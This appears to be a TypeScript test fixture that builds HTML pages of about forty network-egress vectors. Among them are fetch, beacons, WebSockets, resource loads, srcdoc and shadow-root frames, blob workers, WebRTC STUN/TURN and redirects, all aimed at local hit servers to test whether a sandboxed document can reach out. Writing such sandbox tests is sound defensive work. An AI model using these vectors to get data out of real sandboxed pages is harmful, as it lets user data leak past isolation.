import { hitServer } from "./hit-server.ts";
import type { HitServer } from "./hit-server.ts";

/** One way to get something out of a document. */
export interface Attack {
  readonly name: string;
  /** That it leads to, and no other does. */
  readonly server: HitServer;
  readonly html: string;
}

const script = (text: string): string => `<script>try { ${text} } catch {}</script>`;
const peer = (ice: string): string =>
  `const p = new RTCPeerConnection({ iceServers: [${ice}] }); p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o))`;
const quoted = (html: string): string => html.replaceAll("&", "&amp;").replaceAll('"', "&quot;");

/** Those that leave the document where it is: all of them fit into one. */
const quiet: Readonly<Record<string, (server: HitServer) => string>> = {
  fetch: ({ url }) => script(`fetch("${url}").catch(() => {})`),
  "fetch without CORS": ({ url }) =>
    script(`fetch("${url}", { mode: "no-cors", keepalive: true }).catch(() => {})`),
  XMLHttpRequest: ({ url }) => script(`const x = new XMLHttpRequest(); x.open("GET", "${url}"); x.send()`),
  WebSocket: ({ port }) => script(`new WebSocket("ws://127.0.0.1:${port}")`),
  EventSource: ({ url }) => script(`new EventSource("${url}")`),
  sendBeacon: ({ url }) => script(`navigator.sendBeacon("${url}", "x")`),
  "dynamic import": ({ url }) => script(`import("${url}/x.js").catch(() => {})`),
  img: ({ url }) => `<img src="${url}/x.png">`,
  "new Image": ({ url }) => script(`new Image().src = "${url}/x.png"`),
  script: ({ url }) => `<script src="${url}/x.js"></script>`,
  "module script": ({ url }) => `<script type="module" src="${url}/x.js"></script>`,
  stylesheet: ({ url }) => `<link rel="stylesheet" href="${url}/x.css">`,
  "@import": ({ url }) => `<style>@import "${url}/x.css";</style>`,
  "CSS background": ({ url }) => `<style>body { background: url(${url}/x.png) }</style>`,
  font: ({ url }) =>
    `<style>@font-face { font-family: q; src: url(${url}/x.woff2) } .q { font-family: q }</style><p class="q">q</p>`,
  video: ({ url }) => `<video autoplay muted src="${url}/x.mp4"></video>`,
  "video poster": ({ url }) => `<video poster="${url}/x.png"></video>`,
  audio: ({ url }) => `<audio autoplay src="${url}/x.mp3"></audio>`,
  "SVG image": ({ url }) => `<svg><image href="${url}/x.png"/></svg>`,
  "input image": ({ url }) => `<input type="image" src="${url}/x.png">`,
  iframe: ({ url }) => `<iframe src="${url}"></iframe>`,
  object: ({ url }) => `<object data="${url}/x.svg" type="image/svg+xml"></object>`,
  embed: ({ url }) => `<embed src="${url}/x.svg" type="image/svg+xml">`,
  prefetch: ({ url }) => `<link rel="prefetch" href="${url}/x">`,
  preload: ({ url }) => `<link rel="preload" as="image" href="${url}/x.png">`,
  modulepreload: ({ url }) => `<link rel="modulepreload" href="${url}/x.js">`,
  preconnect: ({ url }) => `<link rel="preconnect" href="${url}">`,
  "preconnect by script": ({ url }) =>
    script(
      `const l = document.createElement("link"); l.rel = "preconnect"; l.href = "${url}"; document.head.append(l)`,
    ),
  "worker of a blob": ({ url }) =>
    script(`new Worker(URL.createObjectURL(new Blob(["fetch('${url}')"], { type: "text/javascript" })))`),
  "srcdoc within": ({ url }) => `<iframe srcdoc="${quoted(`<img src="${url}/x.png">`)}"></iframe>`,
  "srcdoc in a shadow root": ({ url }) =>
    script(
      `const h = document.createElement("p"); document.body.append(h); h.attachShadow({ mode: "closed" }).innerHTML = '<iframe srcdoc="<img src=${url}/x.png>"></iframe>'`,
    ),
  "ping of a link": ({ url }) => `<a id="ping" href="#x" ping="${url}">x</a>${script("ping.click()")}`,
  STUN: ({ udpPort }) => script(peer(`{ urls: "stun:127.0.0.1:${udpPort}" }`)),
  "TURN over TCP": ({ port }) =>
    script(peer(`{ urls: "turn:127.0.0.1:${port}?transport=tcp", username: "a", credential: "b" }`)),
  "STUN in a frame within": ({ udpPort }) =>
    `<iframe srcdoc="${quoted(script(peer(`{ urls: "stun:127.0.0.1:${udpPort}" }`)))}"></iframe>`,
};

/** Those that would lead the document away. Each needs one of its own. */
const leaving: Readonly<Record<string, (server: HitServer) => string>> = {
  "location =": ({ url }) => script(`location = "${url}"`),
  "location.replace": ({ url }) => script(`location.replace("${url}")`),
  "meta refresh": ({ url }) => `<meta http-equiv="refresh" content="0;url=${url}">`,
  "a link that is clicked": ({ url }) => `<a id="away" href="${url}">x</a>${script("away.click()")}`,
  "a form": ({ url }) =>
    `<form id="form" action="${url}" method="post"><input name="a"></form>${script("form.submit()")}`,
  "window.open": ({ url }) => script(`window.open("${url}")`),
  "a link to a new window": ({ url }) =>
    `<a id="away" target="_blank" href="${url}">x</a>${script("away.click()")}`,
  "top navigation": ({ url }) => script(`top.location = "${url}"`),
  "a link to the top": ({ url }) => `<a id="away" target="_top" href="${url}">x</a>${script("away.click()")}`,
};

export interface Attacks extends AsyncDisposable {
  readonly quiet: readonly Attack[];
  readonly leaving: readonly Attack[];
  /** Names of those that got through. */
  reached(): readonly string[];
}

export async function canvasAttacks(): Promise<Attacks> {
  const made = async (from: typeof quiet): Promise<readonly Attack[]> =>
    await Promise.all(
      Object.entries(from).map(async ([name, htmlFor]) => {
        const server = await hitServer();
        return { name, server, html: htmlFor(server) };
      }),
    );
  const [first, second] = [await made(quiet), await made(leaving)];
  const all = [...first, ...second];
  return {
    ...{ quiet: first, leaving: second },
    reached: () => all.filter(({ server }) => server.hits > 0).map(({ name }) => name),
    async [Symbol.asyncDispose]() {
      await Promise.all(all.map(({ server }) => server[Symbol.asyncDispose]()));
    },
  };
}

/** A document of them. Its own script changes it, and once more when there was time enough for the others. */
export function attackPage(attacks: readonly Attack[]): string {
  const own = `<script>document.querySelector("h1").textContent = "It runs"; setTimeout(() => { document.querySelector("h1").textContent = "Time is up" }, 1_500)</script>`;
  return `<!doctype html><html><head><title>x</title></head><body><h1>Nothing ran</h1>${own}${attacks.map(({ html }) => html).join("\n")}</body></html>`;
}
